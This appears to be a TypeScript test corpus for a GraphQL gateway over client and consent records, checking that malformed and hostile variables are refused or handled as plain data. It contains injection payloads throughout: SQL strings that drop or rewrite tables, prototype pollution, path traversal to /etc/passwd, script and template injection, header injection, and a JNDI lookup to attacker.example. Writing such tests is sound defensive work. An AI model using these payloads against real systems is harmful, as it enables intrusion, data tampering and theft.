import { answered, CLIENT, gql, refused, type CorpusCase } from './types';

const badInput = refused(400, 'BAD_USER_INPUT');
const syntax = refused(400, 'GRAPHQL_PARSE_FAILED');
const BY_ID = 'query ($id: ID!) { client(id: $id) { id displayName } }';
const SEARCH = 'query ($name: String, $first: Int) { searchClients(name: $name, first: $first) { id } }';
const CASES = 'query ($status: CaseStatus) { cases(status: $status, first: 5) { id } }';
const CONSENT = 'mutation ($input: RecordConsentInput!) { recordConsent(input: $input) { id } }';
const REGISTER = 'mutation ($input: RegisterClientInput!) { registerClient(input: $input) { id } }';
const CONSENT_INPUT = {
  clientId: CLIENT, granteeAgency: 'police', categories: ['SAFETY'], purposes: ['CASE_MANAGEMENT'],
  validFrom: '2024-01-01T00:00:00Z', validUntil: '2099-01-01T00:00:00Z', evidenceReference: 'FORM-1',
};
const REGISTRATION = {
  firstName: 'Testa', lastName: 'Synthetica', dateOfBirth: '1990-04-02', gender: 'FEMALE', language: 'nl', interpreterNeeded: false,
  addressProtected: true, address: { street: 'Proefstraat 1', postalCode: '2000', municipality: 'Antwerpen' },
};

/** Variables the gateway refuses while coercing them, before planning. */
const wrongTypes: CorpusCase[] = [
  { name: 'an id that is an object', request: gql(BY_ID, { id: { $gt: '' } }), expect: badInput },
  { name: 'an id that is an array', request: gql(BY_ID, { id: [CLIENT, 'FJC-000003'] }), expect: badInput },
  { name: 'a null for a required id', request: gql(BY_ID, { id: null }), expect: badInput },
  { name: 'a missing required variable', request: gql(BY_ID, {}), expect: badInput },
  { name: 'an id that is a boolean', request: gql(BY_ID, { id: true }), expect: badInput },
  { name: 'an id that is a fraction', request: gql(BY_ID, { id: 1.5 }), expect: badInput },
  { name: 'an id hidden in a prototype key', request: { json: JSON.parse(`{"query": ${JSON.stringify(BY_ID)}, "variables": {"__proto__": {"id": "${CLIENT}"}}}`) as unknown }, expect: badInput },
  { name: 'a constructor.prototype pollution attempt', request: gql(BY_ID, { constructor: { prototype: { isAdmin: true } } }), expect: badInput },
  { name: 'a page size given as a string', request: gql(SEARCH, { name: 'an', first: '10' }), expect: badInput },
  { name: 'a page size over 32 bits', request: gql(SEARCH, { name: 'an', first: 2 ** 31 }), expect: badInput },
  { name: 'a page size that is a fraction', request: gql(SEARCH, { name: 'an', first: 1.5 }), expect: badInput },
  { name: 'a page size that is an object', request: gql(SEARCH, { name: 'an', first: { valueOf: 10 } }), expect: badInput },
  { name: 'a name that is a number', request: gql(SEARCH, { name: 12 }), expect: badInput },
  { name: 'an enum value that does not exist', request: gql(CASES, { status: 'OPEN_OR_CLOSED' }), expect: badInput },
  { name: 'an enum value in lower case', request: gql(CASES, { status: 'open' }), expect: badInput },
  { name: 'an enum value given as a number', request: gql(CASES, { status: 1 }), expect: badInput },
  { name: 'an input object with an unknown field', request: gql(CONSENT, { input: { ...CONSENT_INPUT, approvedBy: 'admin' } }), expect: badInput },
  { name: 'an input object missing a required field', request: gql(CONSENT, { input: { clientId: CLIENT } }), expect: badInput },
  { name: 'an input object given as a string', request: gql(CONSENT, { input: JSON.stringify(CONSENT_INPUT) }), expect: badInput },
  { name: 'a category list with a null in it', request: gql(CONSENT, { input: { ...CONSENT_INPUT, categories: ['SAFETY', null] } }), expect: badInput },
  { name: 'a category that does not exist', request: gql(CONSENT, { input: { ...CONSENT_INPUT, categories: ['EVERYTHING'] } }), expect: badInput },
  { name: 'a purpose list that is a number', request: gql(CONSENT, { input: { ...CONSENT_INPUT, purposes: 42 } }), expect: badInput },
  { name: 'an id list with a null in it', request: gql('query ($ids: [ID!]!) { clients(ids: $ids) { id } }', { ids: [CLIENT, null] }), expect: badInput },
  { name: 'an id nested a thousand objects deep', request: gql(BY_ID, { id: JSON.parse(`${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}`) as unknown }), expect: badInput },
];

/** Strings an attacker hopes a store or a template will interpret: each is only ever data. */
const INJECTIONS = [
  ["SQL: ' OR '1'='1", "' OR '1'='1"],
  ['SQL: a stacked DROP TABLE', `${CLIENT}'; DROP TABLE clients;--`],
  ['SQL: a double-quote tautology', '" OR ""="'],
  ['SQL: a UNION on the disclosure log', "x' UNION SELECT * FROM disclosure_log--"],
  ['SQL: a comment that ends the statement', `${CLIENT}'--`],
  ['a NoSQL operator as text', '{"$gt": ""}'],
  ['a path traversal', '../../../../etc/passwd'],
  ['a template expression', '${7*7}{{7*7}}'],
  ['a script tag', '<script>alert(1)</script>'],
  ['a CRLF header injection', `${CLIENT}\r\nX-Injected: 1`],
  ['a JNDI lookup', '${jndi:ldap://attacker.example/a}'],
  ['a format string', '%s%s%s%n%x'],
  ['a NUL byte after a real id', `${CLIENT}\u0000`],
  ['a 100 KB id', 'F'.repeat(100_000)],
] as const;

const injections: CorpusCase[] = [
  ...INJECTIONS.map(([label, value]): CorpusCase => ({ name: `a client id carrying ${label}`, request: gql(BY_ID, { id: value }), expect: answered })),
  ...INJECTIONS.slice(0, 8).map(([label, value]): CorpusCase => ({ name: `a search name carrying ${label}`, request: gql(SEARCH, { name: value }), expect: answered })),
  { name: 'a search for the LIKE wildcard alone (too short a name)', request: gql(SEARCH, { name: '%' }), expect: refused(200, 'BAD_USER_INPUT') },
  { name: 'a search for LIKE wildcards and underscores', request: gql(SEARCH, { name: '_%_%_' }), expect: answered },
  { name: 'an injection inlined as a string literal', request: gql(`{ client(id: "x' OR 1=1 --") { id } }`), expect: answered },
  { name: 'a registration with an SQL name and an impossible date', request: gql(REGISTER, { input: { ...REGISTRATION, lastName: "Robert'); DROP TABLE clients;--", dateOfBirth: '1990-02-30' } }), expect: refused(200, 'BAD_USER_INPUT') },
  { name: 'a registration with a script in the name and a future birth date', request: gql(REGISTER, { input: { ...REGISTRATION, firstName: '<img src=x onerror=alert(1)>', dateOfBirth: '2999-01-01' } }), expect: refused(200, 'BAD_USER_INPUT') },
  { name: 'a consent with an injected evidence reference for an unknown client', request: gql(CONSENT, { input: { ...CONSENT_INPUT, clientId: "FJC-999999' OR 1=1--", evidenceReference: "'; DELETE FROM consents;--" } }), expect: refused(200, 'BAD_USER_INPUT') },
  { name: 'a revocation of a consent id carrying SQL', request: gql('mutation { revokeConsent(id: "1 OR 1=1", reason: "\'; UPDATE consents SET status = \'ACTIVE\';--") { id } }'), expect: refused(200, 'BAD_USER_INPUT') },
];

/** Unicode that lexers, normalisers and databases have tripped over. */
const unicode: CorpusCase[] = [
  { name: 'a document behind a byte-order mark', request: gql('\uFEFF{ __typename }'), expect: answered },
  { name: 'a zero-width space inside a field name', request: gql(`{ client(id: "${CLIENT}") { display\u200BName } }`), expect: syntax },
  { name: 'a Cyrillic homoglyph in a field name', request: gql(`{ \u0441lient(id: "${CLIENT}") { id } }`), expect: syntax },
  { name: 'full-width braces', request: gql('\uFF5B __typename \uFF5D'), expect: syntax },
  { name: 'a raw lone surrogate in a string literal', request: gql('{ client(id: "\uD800") { id } }'), expect: syntax },
  { name: 'a right-to-left override in an id', request: gql(BY_ID, { id: `\u202E${CLIENT}` }), expect: answered },
  { name: 'an emoji id', request: gql(BY_ID, { id: '\u{1F4A3}\u{1F4A5}' }), expect: answered },
  { name: 'a lone surrogate in a variable', request: gql(BY_ID, { id: '\uDC00abc' }), expect: answered },
  { name: 'combining characters stacked a thousand high (too long a name)', request: gql(SEARCH, { name: `a${'\u0301'.repeat(1000)}` }), expect: refused(200, 'BAD_USER_INPUT') },
  { name: 'combining characters stacked twenty high', request: gql(SEARCH, { name: `an${'\u0301'.repeat(20)}` }), expect: answered },
  { name: 'a search name in astral characters', request: gql(SEARCH, { name: '\u{1D4D0}\u{1D4D1}\u{1D4D2}' }), expect: answered },
  { name: 'a full-width id that NFKC would fold into a real one', request: gql(BY_ID, { id: '\uFF26\uFF2A\uFF23-000002' }), expect: answered },
  { name: 'invalid UTF-8 inside a string literal', request: { body: Buffer.concat([Buffer.from(`{"query": "{ client(id: \\"FJC-`), Buffer.from([0xc3, 0x28, 0xc0, 0xaf]), Buffer.from('\\") { id } }"}')]) }, expect: answered },
  { name: 'invalid UTF-8 where a name belongs', request: { body: Buffer.concat([Buffer.from('{"query": "{ '), Buffer.from([0xc0, 0xaf]), Buffer.from(' }"}')]) }, expect: syntax },
  { name: 'an operation name in Unicode that is not in the document', request: { json: { query: 'query A { __typename }', operationName: '\u0410' } }, expect: refused(400, 'OPERATION_RESOLUTION_FAILURE') },
];

export const INPUT_CASES: CorpusCase[] = [...wrongTypes, ...injections, ...unicode];
